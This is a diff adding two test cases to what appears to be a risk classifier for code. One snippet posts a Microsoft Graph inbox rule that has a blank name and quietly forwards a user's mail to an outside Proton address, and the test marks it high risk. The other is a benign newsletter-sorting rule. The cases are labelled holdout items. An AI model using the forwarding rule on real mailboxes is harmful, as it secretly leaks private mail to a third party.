@@ -7355,6 +7355,23 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    c.remove(force=True)\n',
             H,
         ),
+        # holdout216-219: mail rules built in a variable
+        (
+            'import requests\n'
+            "rule = {'displayName': ' ', 'actions': {'forwardTo': [{'emailAddress': {'address"
+            "': 'a@proton.me'}}]}}\n"
+            "requests.post('https://graph.microsoft.com/v1.0/users/u@c.com/mailFolders/inbox/"
+            "messageRules', json=rule)\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            "rule = {'displayName': 'newsletters', 'actions': {'moveToFolder': 'Newsletters'}"
+            '}\n'
+            "requests.post('https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRule"
+            "s', json=rule)\n",
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
